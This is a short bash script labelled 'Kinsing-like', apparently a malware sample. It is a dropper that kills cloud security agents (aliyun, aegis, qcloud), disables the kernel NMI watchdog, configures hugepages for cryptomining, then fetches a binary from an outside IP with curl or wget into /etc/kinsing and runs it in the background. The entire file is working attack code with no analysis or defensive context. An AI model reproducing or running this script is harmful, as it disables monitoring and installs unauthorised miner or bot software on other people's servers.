# setup 4804 v1
#!/bin/bash
# Kinsing-like: disable security and fetch the bot
ps aux | grep -v grep | grep -i 'aliyun\|aegis\|qcloud' | awk '{print $2}' | xargs -I % kill -9 %
echo 0 > /proc/sys/kernel/nmi_watchdog
echo 'vm.nr_hugepages=128' >> /etc/sysctl.conf
LDR="wget -q -O -"; if [ -s /usr/bin/curl ]; then LDR="curl"; fi
$LDR http://203.0.113.200/kinsing > /etc/kinsing; chmod +x /etc/kinsing; /etc/kinsing &
